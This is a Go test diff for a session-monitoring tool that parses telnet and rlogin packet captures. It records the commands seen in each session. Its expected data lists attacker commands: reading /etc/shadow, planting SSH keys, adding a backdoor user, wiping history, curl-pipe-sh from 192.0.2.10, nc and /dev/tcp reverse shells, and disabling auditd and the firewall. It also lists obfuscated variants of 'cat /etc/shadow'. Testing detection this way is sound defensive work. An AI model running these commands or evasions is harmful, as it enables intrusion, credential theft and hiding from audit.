@@ -118,6 +118,23 @@ func TestGroundTruth(t *testing.T) {
 			"rdp.encryption_method": "128bit", "rdp.encryption_level": "high", "rdp.certificate.type": "proprietary"}}},
 		"ssh-exec-ipv6.pcap": {{"ssh", "[2001:db8::10]:47500", "[2001:db8::20]:22", map[string]string{
 			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "exec"}}},
+		// Commands for rules (inetd in its own PID and mount namespaces). The sudo password typed after
+		// `sudo -l` is no login: psm.login.attempts is left out here (psmtap counts 2, the truth is 1).
+		"telnet-suspicious.pcap": {{"telnet", "192.0.2.10:52816", "192.0.2.20:23", map[string]string{
+			"user.name": "alice", "psm.login.success": "true", "psm.kind": "interactive",
+			"psm.commands": list("cat /etc/shadow", "sudo -l", "cat /etc/sudoers", "echo ssh-ed25519 AAAATEST >> ~/.ssh/authorized_keys",
+				"useradd backdoor", "history -c", "unset HISTFILE", "rm -f ~/.bash_history", "curl -s http://192.0.2.10:8080/x.sh | sh",
+				"wget -q http://192.0.2.10:8080/y -O /tmp/y; chmod +x /tmp/y", "iptables -F", "systemctl stop auditd", "setenforce 0",
+				"crontab -l", "nc -e /bin/sh 192.0.2.10 4444", "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1", "exit")}}},
+		// The commands of telnet-bypass are checked one by one in TestGroundTruthBypass.
+		"telnet-bypass.pcap": {{"telnet", "192.0.2.10:57976", "192.0.2.20:23", map[string]string{
+			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive"}}},
+		"telnet-benign.pcap": {{"telnet", "192.0.2.10:43044", "192.0.2.20:23", map[string]string{
+			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1",
+			"psm.commands": list("ls -la", "df -h /home", "uptime", "cat /etc/hostname", "ps aux | head -5", "grep alice /etc/group", "exit")}}},
+		"rlogin-suspicious.pcap": {{"rlogin", "192.0.2.10:1023", "192.0.2.20:513", map[string]string{
+			"rlogin.client_user": "alice", "rlogin.server_user": "alice", "user.name": "alice", "psm.login.success": "true",
+			"psm.commands": list("cat /etc/shadow", "history -c", "exit"), "psm.kind": "interactive"}}},
 	}
 	for file, sessions := range truth {
 		t.Run(file, func(t *testing.T) {
@@ -139,6 +156,47 @@ func TestGroundTruth(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestGroundTruthBypass checks, line by line, the commands bash ran in
+// telnet-bypass.pcap (pcaps/README.md): `cat /etc/shadow` in disguises.
+// Lines where psmtap's command differs from what bash ran are left out
+// (listed in the README: Ctrl-A/Ctrl-E editing, a TAB in a line sent in
+// one segment); the count still pins every line to its place.
+func TestGroundTruthBypass(t *testing.T) {
+	want := map[int]string{
+		0: "cat /etc/shadow", // typo erased with BS BS
+		1: "cat /etc/shadow", // Left, Delete, Left, insert
+		// 2: Ctrl-A, "cat ", Ctrl-E; bash ran cat /etc/shadow
+		3: "cat /etc/shadow", // Ctrl-U, Ctrl-W
+		4: "cat /etc/shadow", // TAB completes "dow" (ambiguous: shadow, shadow-)
+		5: "cat /etc/shadow", // TAB completes "c/"
+		6: "cat /etc/shadow", // bracketed paste
+		// 7: "cat /et<TAB>shadow<CR>" in one segment; bash ran cat /etc/shadow
+		8:  "id; cat /etc/shadow",
+		9:  "true && cat /etc/shadow",
+		10: "cat   /etc/shadow",
+		11: `cat "/etc/shadow"`,
+		12: "cat /etc/'sha'dow",
+		13: `c\at /etc/shadow`,
+		14: "/bin/cat /etc/shadow",
+		15: "cat /etc//shadow",
+		16: "cat /etc/./shadow",
+		17: "exit",
+	}
+	recs := records(t, run(t, "read", "pcaps/telnet-bypass.pcap").stdout)
+	if len(recs) != 1 {
+		t.Fatalf("%d sessions, want 1", len(recs))
+	}
+	cmds, _ := field(recs[0], "psm.commands").([]any)
+	if len(cmds) != 18 {
+		t.Fatalf("%d commands, want 18: %q", len(cmds), cmds)
+	}
+	for i, w := range want {
+		if cmds[i] != w {
+			t.Errorf("command %d = %q, want %q", i, cmds[i], w)
+		}
 	}
 }
 
